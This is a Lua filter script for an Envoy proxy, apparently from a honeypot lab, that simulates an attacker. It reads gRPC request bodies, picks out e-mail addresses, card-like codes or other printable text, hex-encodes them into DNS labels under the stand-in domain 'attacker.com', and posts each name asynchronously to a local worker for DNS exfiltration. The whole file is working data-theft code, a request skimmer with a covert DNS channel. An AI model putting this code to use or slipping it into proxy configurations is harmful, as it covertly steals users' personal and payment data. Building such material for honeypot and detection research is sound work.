-- model: aile96/honeypot:src/attacker/utils/checkout/lua/capture.lua
-- what: Attacker-simulation script of a honeypot lab (loaded with dofile from the sidecar's inline_code): buffers the gRPC request body, pulls an e-mail address or card-like tag out of it, hex-encodes it into DNS-label-sized chunks and fires one async POST per chunk at a local dns_worker cluster.
-- Load-time settings come from the proxy's environment, as in the model.
local LIMIT = tonumber(os.getenv("MAX_BODY_BYTES") or "4096")
local ZONE = os.getenv("EXFIL_DOMAIN") or "attacker.com"
local FALLBACK = os.getenv("EXFIL_FIXED") or "123-SECRET-DATA-1234"
local SINK = "dns_worker"
local SINK_TIMEOUT = 2000

-- helpers ------------------------------------------------------------------

local function to_hex(v)
  return (tostring(v):gsub(".", function(ch) return string.format("%02x", string.byte(ch)) end))
end

local function nonce(n)
  local out, alphabet = {}, "0123456789abcdefghijklmnopqrstuvwxyz"
  for _ = 1, (n or 6) do
    local k = math.random(#alphabet)
    out[#out + 1] = alphabet:sub(k, k)
  end
  return table.concat(out)
end

local function split_every(s, width)
  local pieces, pos = {}, 1
  while pos <= #s do
    pieces[#pieces + 1] = s:sub(pos, pos + width - 1)
    pos = pos + width
  end
  return pieces
end

-- two 63-char labels per name, plus sequence, nonce and the zone
local function names_for(hexstr)
  local LABEL = 63
  local CHUNK = LABEL * 2
  local chunks = split_every(hexstr, CHUNK)
  local count = #chunks
  local base = nonce(5)

  local names = {}
  for idx, piece in ipairs(chunks) do
    local first = piece:sub(1, math.min(#piece, LABEL))
    local second = ""
    if #piece > LABEL then
      second = piece:sub(LABEL + 1, math.min(#piece, LABEL * 2))
    end
    local seq = string.format("%x", idx) .. "-" .. string.format("%x", count)
    local tag = base .. string.format("%x", os.time() % 0xffff)
    local name
    if second ~= "" then
      name = seq .. "." .. first .. "." .. second .. "." .. tag .. "." .. ZONE
    else
      name = seq .. "." .. first .. "." .. tag .. "." .. ZONE
    end
    names[#names + 1] = name
  end
  return names
end

-- strip the 5-byte gRPC length prefix; compressed frames yield ""
local function unframe(raw)
  if #raw < 5 then return raw end
  local compressed = string.byte(raw, 1)
  if compressed ~= 0 then
    return ""
  end
  local b1, b2, b3, b4 = string.byte(raw, 2, 5)
  local size = b1 * 16777216 + b2 * 65536 + b3 * 256 + b4
  if 5 + size <= #raw then
    return raw:sub(6, 5 + size)
  else
    return raw:sub(6)
  end
end

local function pick_loot(payload, default)
  local mail = payload:match("([%w%._%+%-]+@[%w%.%-]+%.[%a][%a%d%-]+)")
  if mail then return mail end
  local card = payload:match("(%d%d%d%-%u%u%u%u%u%u%-%u%u%u%u%-%d%d%d%d)")
  if card then return card end
  local printable = payload:gsub("[^%g%s]", "")
  if #printable > 0 then return printable:sub(1, 512) end
  return default
end

local function ship(h, names)
  for _, name in ipairs(names) do
    h:logInfo("Sending to dns_worker: " .. name)
    pcall(function()
      local hdrs = {
        [":method"] = "POST",
        [":path"] = "/dig",
        [":authority"] = "127.0.0.1",
        ["content-type"] = "text/plain",
      }
      -- asynchronous: the request is not held up by the side call
      h:httpCall(SINK, hdrs, name, SINK_TIMEOUT, true)
    end)
  end
end

function envoy_on_request(h)
  -- reseeded per request from the clock and the first byte of the peer address
  math.randomseed(os.time() + tonumber(string.byte((h:streamInfo():downstreamRemoteAddress() or "x"), 1) or 7))
  local loot = FALLBACK
  local buf = h:body()

  if buf ~= nil and buf:length() > 0 then
    local take = math.min(buf:length(), LIMIT + 5)
    local raw = buf:getBytes(0, take) or ""
    local msg = unframe(raw)
    local found = pick_loot(msg, FALLBACK)
    loot = found or FALLBACK
  end

  ship(h, names_for(to_hex(loot)))
end
